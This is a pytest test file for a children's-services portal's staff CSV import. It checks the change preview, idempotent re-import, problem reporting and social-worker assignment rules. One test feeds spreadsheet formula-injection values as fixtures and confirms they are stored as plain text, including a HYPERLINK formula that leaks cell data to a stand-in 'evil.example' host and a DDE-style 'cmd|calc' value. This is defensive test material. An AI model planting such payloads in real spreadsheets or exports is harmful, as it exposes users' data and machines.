"""The staff import, with real files: exact changes and problems, the same file twice changes
nothing, hostile cells are stored as text, unreadable files are refused whole."""

from io import BytesIO
from pathlib import Path

import pytest
from sqlalchemy import func, select

from portal.extensions import db
from portal.imports.reading import FileRefused, read_rows
from portal.models import AuditEvent, Child, ChildEvent, ImportRun, ImportStatus, RoleGrant, User
from portal.operations import staff
from portal.operations.audit import Actor
from portal.operations.importers.staff import IMPORTER
from tests.conftest import DEMO_EMAILS, csrf_token_from
from workflows.roles import Role

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "imports" / "staff"


def check(name, progress=None):
    _total, rows = read_rows(
        (FIXTURES / name).read_bytes(),
        encodings=IMPORTER.encodings,
        required_columns=IMPORTER.required_columns,
        optional_columns=IMPORTER.optional_columns,
    )
    return IMPORTER.check(db.session, rows, progress or (lambda _done: None))


def commit(plan):
    admin = db.session.scalar(select(User).where(User.email == DEMO_EMAILS["admin"]))
    IMPORTER.apply(db.session, Actor.for_user(admin, "127.0.0.1"), plan)
    db.session.commit()


def changes(plan):
    return [(change.row, change.action, change.summary) for change in plan.changes]


def audit_count():
    return db.session.scalar(select(func.count()).select_from(AuditEvent))


def person(email):
    return db.session.scalar(select(User).where(User.email == email))


def roles_of(email):
    user = person(email)
    return sorted(
        (
            grant.role,
            grant.school.urn if grant.school else None,
            grant.child.authority_reference if grant.child else None,
            grant.starts_on.isoformat() if grant.starts_on else None,
        )
        for grant in user.grants
    )


def social_workers_of(reference):
    return list(
        db.session.scalars(
            select(User.email)
            .join(RoleGrant, RoleGrant.user_id == User.id)
            .join(Child, RoleGrant.child_id == Child.id)
            .where(Child.authority_reference == reference, RoleGrant.role == "social_worker")
        )
    )


def check_text(content):
    _total, rows = read_rows(
        content,
        encodings=IMPORTER.encodings,
        required_columns=IMPORTER.required_columns,
        optional_columns=IMPORTER.optional_columns,
    )
    return IMPORTER.check(db.session, rows, lambda _done: None)


GOOD_CHANGES = [
    (
        2,
        "new",
        "New person: Helen Adams <helen.adams@oakfield.sch.uk>, Designated teacher for "
        "Oakfield Primary School (URN 900201)",
    ),
    (
        3,
        "changed",
        "Helen Adams <helen.adams@oakfield.sch.uk>: new role: Designated lead for "
        "Little Acorns Nursery (URN 900101)",
    ),
    (
        4,
        "new",
        "New person: Zoë Ødegaard <zoe.odegaard@demo-council.gov.uk>, who becomes the social "
        "worker of Ava Thompson (DCC-1001), replacing Rachel Dunn",
    ),
    (
        5,
        "changed",
        "Zoë Ødegaard <zoe.odegaard@demo-council.gov.uk>: becomes the social worker of "
        "Leo Okafor (DCC-1002), replacing Sam Okoro",
    ),
    (
        6,
        "new",
        "New person: Pat Kelly <foster.pat@example.org>, Carer for Maya Kowalska (DCC-1003)",
    ),
    (7, "changed", "Pat Kelly <foster.pat@example.org>: new role: Carer for Noah Ahmed (DCC-1004)"),
    (
        8,
        "new",
        "New person: Ruth Ncube <ruth.vs@demo-council.gov.uk>, Virtual School adviser "
        "for Jayden Scott (DCC-1501)",
    ),
    (
        9,
        "changed",
        "Ruth Ncube <ruth.vs@demo-council.gov.uk>: new role: Virtual School "
        "reviewer for the whole authority",
    ),
    (
        10,
        "unchanged",
        "Unchanged: Sam Okoro <sw@demo.openpep.test>, Social worker for Ella Brown (DCC-1101)",
    ),
    (
        11,
        "changed",
        "Sam Okoro <sw@demo.openpep.test>: becomes the social worker of Maya Kowalska "
        "(DCC-1003), replacing Rachel Dunn",
    ),
    (
        12,
        "new",
        "New person: Kit Lead <kit.lead@demo-council.gov.uk>, Designated lead for "
        "Northgate College (URN 900401)",
    ),
    (
        13,
        "new",
        "New person: Morgan Boss <boss@demo-council.gov.uk>, Virtual School admin for "
        "the whole authority",
    ),
]


def test_a_good_file_adds_people_and_roles_exactly_as_previewed(seeded):
    with seeded.app_context():
        people_before = db.session.scalar(select(func.count()).select_from(User))
        done = []
        plan = check("good.csv", done.append)
        assert plan.problems == []
        assert changes(plan) == GOOD_CHANGES
        assert plan.counts() == {"new": 6, "changed": 5, "unchanged": 1, "problems": 0}
        assert done[-1] == 12
        assert db.session.scalar(select(func.count()).select_from(User)) == people_before
        commit(plan)

        assert db.session.scalar(select(func.count()).select_from(User)) == people_before + 6
        assert roles_of("helen.adams@oakfield.sch.uk") == [
            ("designated_teacher", "900101", None, None),
            ("designated_teacher", "900201", None, None),
        ]
        zoe = person("zoe.odegaard@demo-council.gov.uk")
        assert zoe.display_name == "Zoë Ødegaard" and zoe.active and not zoe.sign_in_is_linked
        assert roles_of("foster.pat@example.org") == [
            ("carer", None, "DCC-1003", "2025-09-01"),
            ("carer", None, "DCC-1004", "2025-10-15"),
        ]
        assert roles_of("ruth.vs@demo-council.gov.uk") == [
            ("reviewer", None, None, None),
            ("vs_adviser", None, "DCC-1501", None),
        ]
        assert ("social_worker", None, "DCC-1003", None) in roles_of(DEMO_EMAILS["social_worker"])
        # A child has one social worker: each row replaced the one the child had.
        assert social_workers_of("DCC-1001") == ["zoe.odegaard@demo-council.gov.uk"]
        assert social_workers_of("DCC-1002") == ["zoe.odegaard@demo-council.gov.uk"]
        assert social_workers_of("DCC-1003") == [DEMO_EMAILS["social_worker"]]
        changed = db.session.scalars(
            select(ChildEvent).where(
                ChildEvent.kind == "social_worker_changed",
                ChildEvent.recorded_by_description.not_like("System: demo seed%"),
            )
        ).all()
        assert sorted((e.details["from"], e.details["to"]) for e in changed) == [
            ("Rachel Dunn", "Sam Okoro"),
            ("Rachel Dunn", "Zoë Ødegaard"),
            ("Sam Okoro", "Zoë Ødegaard"),
        ]
        assert roles_of("boss@demo-council.gov.uk") == [("admin", None, None, None)]
        granted = db.session.scalars(
            select(AuditEvent).where(
                AuditEvent.action == "role.granted",
                AuditEvent.actor_description.not_like("System: demo seed%"),
            )
        ).all()
        assert len(granted) == 11
        assert {event.details["source"] for event in granted} == {"staff import"}
        assert granted[0].actor_description.startswith("Chris Byrne <admin@demo.openpep.test>")


def test_the_same_file_twice_changes_nothing_the_second_time(seeded):
    with seeded.app_context():
        commit(check("good.csv"))
        events = audit_count()
        again = check("good.csv")
        assert again.problems == []
        assert {change.action for change in again.changes} == {"unchanged"}
        assert again.counts() == {"unchanged": 12, "problems": 0}
        commit(again)
        assert audit_count() == events


def test_a_changed_file_renames_adds_and_moves_a_carers_start_but_takes_nothing_away(seeded):
    with seeded.app_context():
        commit(check("good.csv"))
        # A role given by hand since; the import never takes it away.
        extra = staff.grant_role(
            db.session,
            Actor.system("test"),
            person("kit.lead@demo-council.gov.uk"),
            Role.REVIEWER,
        )
        assert not extra.refused
        plan = check("changed.csv")
        assert plan.problems == []
        assert [c for c in changes(plan) if c[1] != "unchanged"] == [
            (
                2,
                "changed",
                "Helen Adams-Clarke <helen.adams@oakfield.sch.uk>: name changed from 'Helen Adams'",
            ),
            (
                6,
                "changed",
                "Zoë Ødegaard <zoe.odegaard@demo-council.gov.uk>: becomes the social worker "
                "of Chloe Brown (DCC-1201), replacing Sam Okoro",
            ),
            (
                8,
                "changed",
                "Pat Kelly <foster.pat@example.org>: placement start changed for "
                "Carer for Noah Ahmed (DCC-1004)",
            ),
        ]
        assert plan.changes[0].fields == {"Name": ("Helen Adams", "Helen Adams-Clarke")}
        assert plan.changes[6].fields == {"Starts on": ("15/10/2025", "03/11/2025")}
        commit(plan)
        assert person("helen.adams@oakfield.sch.uk").display_name == "Helen Adams-Clarke"
        assert ("carer", None, "DCC-1004", "2025-11-03") in roles_of("foster.pat@example.org")
        assert ("reviewer", None, None, None) in roles_of("kit.lead@demo-council.gov.uk")
        assert check("changed.csv").counts() == {"unchanged": 13, "problems": 0}


def test_every_problem_of_every_row_is_reported_and_nothing_changes(seeded):
    with seeded.app_context():
        events = audit_count()
        plan = check("problems.csv")
        found = [(p.row, p.column, p.problem) for p in plan.problems]
        assert found == [
            (2, "Role", "'Head teacher' is not a role."),
            (
                3,
                "School URN",
                "A designated teacher or lead needs the URN of their school or setting.",
            ),
            (4, "School URN", "No school or setting has the URN 123456."),
            (5, "Child reference", "No child has the reference NO-SUCH-CHILD."),
            (6, "Email", "'not an address' is not an email address."),
            (7, "Starts on", "'31/02/2026' is not a date."),
            (9, "Name", "This person is named 'Gil Seven' in row 8 and 'Gil Severn' here."),
            (11, None, "This row is the same as row 10."),
            (12, "Name", "The name is missing."),
            (
                12,
                "Child reference",
                "A social worker needs the reference of the child they work with.",
            ),
            (13, "School URN", "A Virtual School reviewer is not given a school or setting."),
            (13, "Child reference", "A Virtual School reviewer is not given a child."),
            (13, "Starts on", "Only a carer's role has a start date."),
        ]
        assert all(problem.fix.endswith(".") for problem in plan.problems)
        assert plan.problems[0].fix.startswith("Enter one of: Designated teacher (or ")
        assert plan.problems[7].fix == "Delete one of the two rows."
        # Rows without problems still show what they would do; none is applied with problems.
        assert [c[0] for c in changes(plan)] == [8, 10]
        assert audit_count() == events


def test_hostile_cells_are_stored_exactly_as_text(seeded):
    with seeded.app_context():
        plan = check("hostile.csv")
        assert plan.problems == []
        commit(plan)
        assert person("formula@example.org").display_name == (
            '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
        )
        assert person("plus@example.org").display_name == "+44 cmd|calc"
        assert person("minus@example.org").display_name == "-2+3"
        assert person("at@example.org").display_name == "@SUM(A1:A9)"
        assert person("tab@example.org").display_name == "\t=1+1"


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("windows_1252.csv", "The file is not saved as UTF-8"),
        ("missing_role_column.csv", "The file has no column Role."),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_whole(name, message):
    with pytest.raises(FileRefused) as refused:
        read_rows(
            (FIXTURES / name).read_bytes(),
            encodings=IMPORTER.encodings,
            required_columns=IMPORTER.required_columns,
            optional_columns=IMPORTER.optional_columns,
        )
    assert str(refused.value).startswith(message)


def test_a_carers_start_comes_from_the_placement_when_the_file_has_none(seeded):
    from datetime import date

    from portal.models import CareEpisode

    with seeded.app_context():
        placed = Child(
            first_name="Test",
            last_name="Child",
            date_of_birth=date(2015, 5, 1),
            authority_reference="TEST-1",
            legal_status="E1",
            date_entered_care=date(2024, 1, 8),
        )
        db.session.add(placed)
        db.session.flush()
        db.session.add(
            CareEpisode(child_id=placed.id, started_on=date(2025, 2, 3), legal_status="E1")
        )
        db.session.commit()
        content = (
            b"Email,Name,Role,Child reference\r\nnew.carer@example.org,Ali Carer,carer,test-1\r\n"
        )
        _total, rows = read_rows(
            content,
            encodings=IMPORTER.encodings,
            required_columns=IMPORTER.required_columns,
            optional_columns=IMPORTER.optional_columns,
        )
        commit(IMPORTER.check(db.session, rows, lambda _done: None))
        assert roles_of("new.carer@example.org") == [("carer", None, "TEST-1", "2025-02-03")]


def test_an_admin_imports_staff_through_the_preview_and_commit(app, client_for):
    app.config["IMPORTS_IN_BACKGROUND"] = False
    admin = client_for("admin")
    response = admin.post(
        "/admin/imports",
        data={
            "csrf_token": csrf_token_from(admin, "/admin/imports"),
            "kind": "staff",
            "file": (BytesIO((FIXTURES / "good.csv").read_bytes()), "staff.csv"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 303, response.get_data(as_text=True)
    run_id = response.headers["Location"].rsplit("/", 1)[1]
    preview = admin.get(f"/admin/imports/{run_id}").get_data(as_text=True)
    assert "New person: Helen Adams" in preview
    with app.app_context():
        assert person("helen.adams@oakfield.sch.uk") is None
    committed = admin.post(
        f"/admin/imports/{run_id}/commit",
        data={"csrf_token": csrf_token_from(admin, f"/admin/imports/{run_id}")},
    )
    assert committed.status_code == 303
    with app.app_context():
        run = db.session.scalar(select(ImportRun).where(ImportRun.kind == "staff"))
        assert run.status == ImportStatus.COMMITTED.value
        assert run.outcome["counts"] == {"new": 6, "changed": 5, "unchanged": 1, "problems": 0}
        assert len(roles_of("helen.adams@oakfield.sch.uk")) == 2


def test_a_social_worker_row_replaces_the_childs_social_worker_and_a_later_import_agrees(seeded):
    with seeded.app_context():
        assert social_workers_of("DCC-1101") == [DEMO_EMAILS["social_worker"]]
        content = (
            "Email,Name,Role,Child reference\r\n"
            "new.sw@example.org,Noor Ali,social worker,DCC-1101\r\n"
        )
        plan = check_text(content.encode())
        assert changes(plan) == [
            (
                2,
                "new",
                "New person: Noor Ali <new.sw@example.org>, who becomes the social worker of "
                "Ella Brown (DCC-1101), replacing Sam Okoro",
            )
        ]
        assert plan.changes[0].fields["Social worker"] == ("Sam Okoro", "Noor Ali")
        commit(plan)
        assert social_workers_of("DCC-1101") == ["new.sw@example.org"]
        # The same file again changes nothing (and adds no second social worker back).
        events = audit_count()
        again = check_text(content.encode())
        assert again.counts() == {"unchanged": 1, "problems": 0}
        commit(again)
        assert audit_count() == events
        assert social_workers_of("DCC-1101") == ["new.sw@example.org"]


def test_two_rows_giving_one_child_two_social_workers_are_a_problem(seeded):
    with seeded.app_context():
        plan = check_text(
            b"Email,Name,Role,Child reference\r\n"
            b"one@example.org,One Worker,social worker,DCC-1101\r\n"
            b"two@example.org,Two Worker,social worker,dcc-1101\r\n"
            b"carer.one@example.org,Carer One,carer,DCC-1101\r\n"
            b"carer.two@example.org,Carer Two,carer,DCC-1101\r\n"
        )
        assert [(p.row, p.column, p.problem, p.fix) for p in plan.problems] == [
            (
                3,
                "Child reference",
                "Row 2 makes one@example.org the social worker of Ella Brown (DCC-1101); a "
                "child has one social worker.",
                "Keep the row for the child's social worker, and delete the other.",
            )
        ]
        # Carers add up: a foster couple are two carers.
        assert [c[:2] for c in changes(plan)] == [(2, "new"), (4, "new"), (5, "new")]


def test_a_switched_off_account_is_given_no_childs_case(seeded):
    sam = DEMO_EMAILS["social_worker"]
    with seeded.app_context():
        person(sam).active = False
        db.session.commit()
        before = {ref: social_workers_of(ref) for ref in ("DCC-1001", "DCC-1101")}
        assert before == {"DCC-1001": ["sw.north@demo.openpep.test"], "DCC-1101": [sam]}
        roles_before = roles_of(sam)
        plan = check_text(
            "Email,Name,Role,Child reference\r\n"
            f"{sam},Sam Okoro,Social worker,DCC-1001\r\n"
            f"{sam},Sam Okoro,Social worker,DCC-1101\r\n"
            f"{sam},Sam Okoro,Virtual School adviser,dcc-1003\r\n"
            "new.carer@example.org,Ali Carer,Carer,DCC-1101\r\n".encode()
        )
        fix = (
            "Give the email address of the child's {} now (or delete this row), or switch the "
            "account on from the staff pages if they are back at work, then upload this file "
            "again."
        )
        assert [(p.row, p.column, p.problem, p.fix) for p in plan.problems] == [
            (
                2,
                "Email",
                f"Sam Okoro's account ({sam}) is switched off, so they cannot be the social "
                "worker of Ava Thompson (DCC-1001).",
                fix.format("social worker"),
            ),
            # Row 3 restates the case Sam holds alone (a file imported again): it gives
            # nothing, so it is no problem, and stays as it is.
            (
                4,
                "Email",
                f"Sam Okoro's account ({sam}) is switched off, so they cannot be the Virtual "
                "School adviser of Maya Kowalska (DCC-1003).",
                fix.format("Virtual School adviser"),
            ),
        ]
        assert [c[:2] for c in changes(plan) if c[1] != "unchanged"] == [(5, "new")]
        assert {ref: social_workers_of(ref) for ref in before} == before
        assert roles_of(sam) == roles_before
